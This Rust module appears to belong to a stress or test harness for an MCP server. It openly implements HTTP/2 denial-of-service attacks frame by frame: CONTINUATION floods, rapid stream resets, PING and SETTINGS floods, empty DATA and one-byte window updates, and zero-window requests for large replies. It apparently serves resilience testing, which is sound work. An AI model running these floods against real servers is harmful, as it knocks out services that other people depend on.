//! Attacks over HTTP/2, frame by frame (RFC 9113).

use std::{sync::Arc, time::Duration};

use tests::{http::VERSION, request};
use tokio::{net::TcpStream, time::sleep};

use crate::target::{Target, closed, send};

pub(crate) async fn idle(target: Arc<Target>, number: usize) {
    loop {
        let mut stream = connect(&target, number, &[]).await;
        closed(&mut stream).await;
        target.pause().await;
    }
}

pub(crate) async fn continued(target: Arc<Target>, number: usize) {
    let header = literal("x", &"x".repeat(100));
    let more = frame(CONTINUATION, 0, 1, &header.repeat(150));
    loop {
        let mut stream = connect(&target, number, &[]).await;
        send(&mut stream, frame(HEADERS, END_STREAM, 1, &post(&target, &[]))).await;
        while send(&mut stream, &more).await {}
        closed(&mut stream).await;
    }
}

pub(crate) async fn resets(target: Arc<Target>, number: usize) {
    let head = post(&target, &[]);
    loop {
        let mut stream = connect(&target, number, &[]).await;
        for id in (1..).step_by(2) {
            let mut frames = frame(HEADERS, END_HEADERS, id, &head);
            frames.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
            if !send(&mut stream, frames).await {
                break;
            }
        }
        closed(&mut stream).await;
    }
}

/// Pings and settings, whose answers nobody reads.
pub(crate) async fn pings(target: Arc<Target>, number: usize) {
    loop {
        let mut stream = connect(&target, number, &[]).await;
        while send(&mut stream, questions()).await {}
    }
}

/// The same, with answers that are read: nothing but the other side's pace holds it up.
pub(crate) async fn pings_that_are_read(target: Arc<Target>, number: usize) {
    loop {
        let stream = connect(&target, number, &[]).await;
        on_and_on(stream, &questions()).await;
    }
}

/// Answers to pings that nobody has sent.
pub(crate) async fn answers(target: Arc<Target>, number: usize) {
    let frames = frame(PING, ACK, 0, &[0; 8]).repeat(100);
    loop {
        let stream = connect(&target, number, &[]).await;
        on_and_on(stream, &frames).await;
    }
}

fn questions() -> Vec<u8> {
    let mut frames = frame(PING, 0, 0, &[0; 8]).repeat(50);
    frames.extend(frame(SETTINGS, 0, 0, &[]).repeat(50));
    frames
}

/// Settings that change the window of each open request.
pub(crate) async fn settings(target: Arc<Target>, number: usize) {
    let frames = [[0, 4, 0, 0, 0, 1], [0, 4, 0, 1, 0, 0]].map(|of| frame(SETTINGS, 0, 0, &of));
    let frames = frames.concat().repeat(50);
    loop {
        let mut stream = connect(&target, number, &[]).await;
        for id in (1..).step_by(2).take(STREAMS) {
            send(&mut stream, open(&target, id)).await;
        }
        on_and_on(stream, &frames).await;
    }
}

/// Requests, of none of which there is a body, or a window for its reply.
pub(crate) async fn begun(target: Arc<Target>, number: usize) {
    loop {
        let mut stream = connect(&target, number, NO_WINDOW).await;
        for id in (1..).step_by(2).take(STREAMS) {
            send(&mut stream, open(&target, id)).await;
        }
        closed(&mut stream).await;
        target.pause().await;
    }
}

/// Windows that grow by a byte.
pub(crate) async fn windows(target: Arc<Target>, number: usize) {
    let by_one = |id| frame(WINDOW_UPDATE, 0, id, &1u32.to_be_bytes());
    let frames = [by_one(0), by_one(1)].concat().repeat(50);
    loop {
        let mut stream = connect(&target, number, &[]).await;
        send(&mut stream, open(&target, 1)).await;
        on_and_on(stream, &frames).await;
    }
}

/// Pieces of a body, with nothing in them.
pub(crate) async fn nothing(target: Arc<Target>, number: usize) {
    let frames = frame(DATA, 0, 1, &[]).repeat(100);
    loop {
        let mut stream = connect(&target, number, &[]).await;
        send(&mut stream, open(&target, 1)).await;
        on_and_on(stream, &frames).await;
    }
}

/// The head of a call whose body is to come.
fn open(target: &Target, id: u32) -> Vec<u8> {
    frame(HEADERS, END_HEADERS, id, &post(target, &[("content-type", "application/json")]))
}

/// Sends these frames for as long as they are taken, and reads what is answered.
async fn on_and_on(mut stream: TcpStream, frames: &[u8]) {
    let (mut answers, mut questions) = stream.split();
    let mut nowhere = tokio::io::sink();
    tokio::select! {
        () = async { while send(&mut questions, frames).await {} } => {}
        _ = tokio::io::copy(&mut answers, &mut nowhere) => {}
    }
}

/// Orders large replies, and has no window to take them.
pub(crate) async fn unread(target: Arc<Target>, number: usize) {
    let body = request("tools/call", serde_json::json!({ "name": "large", "arguments": {} }));
    order(target, number, &body.to_string()).await;
}

/// The same from the SDK's lane, which alone understands a progress token.
pub(crate) async fn unread_of_sdk(target: Arc<Target>, number: usize) {
    let mut body = request("tools/call", serde_json::json!({ "name": "large", "arguments": {} }));
    body["params"]["_meta"]["progressToken"] = "p".into();
    order(target, number, &body.to_string()).await;
}

async fn order(target: Arc<Target>, number: usize, body: &str) {
    let head = post(
        &target,
        &[
            ("content-type", "application/json"),
            ("accept", "application/json, text/event-stream"),
            ("mcp-protocol-version", VERSION),
            ("mcp-method", "tools/call"),
            ("mcp-name", "large"),
        ],
    );
    loop {
        let mut stream = connect(&target, number, NO_WINDOW).await;
        for id in (1..).step_by(2).take(STREAMS) {
            let mut frames = frame(HEADERS, END_HEADERS, id, &head);
            frames.extend(frame(DATA, END_STREAM, id, body.as_bytes()));
            if !send(&mut stream, frames).await {
                break;
            }
            sleep(Duration::from_millis(500)).await;
        }
        closed(&mut stream).await;
        target.pause().await;
    }
}

pub(crate) async fn connect(target: &Target, number: usize, settings: &[u8]) -> TcpStream {
    let mut stream = target.connect(number).await;
    send(&mut stream, preface(settings)).await;
    stream
}

pub(crate) fn preface(settings: &[u8]) -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, settings));
    bytes
}

fn post(target: &Target, headers: &[(&str, &str)]) -> Vec<u8> {
    // `:method: POST` and `:scheme: http` of the static table, and names of it (RFC 7541, appendix A).
    let mut block = vec![0x83, 0x86];
    for (name, value) in [(4, "/mcp"), (1, &*target.address.to_string())] {
        block.extend([name, value.len() as u8]);
        block.extend(value.bytes());
    }
    headers.iter().for_each(|(name, value)| block.extend(literal(name, value)));
    block
}

/// A header that is not remembered (RFC 7541, section 6.2.2), both parts shorter than 127 bytes.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        bytes.push(text.len() as u8);
        bytes.extend(text.bytes());
    }
    bytes
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut bytes = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
    bytes
}

/// SETTINGS_INITIAL_WINDOW_SIZE.
const NO_WINDOW: &[u8] = &[0, 4, 0, 0, 0, 0];
/// As many as the server lets be open at once.
const STREAMS: usize = 32;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
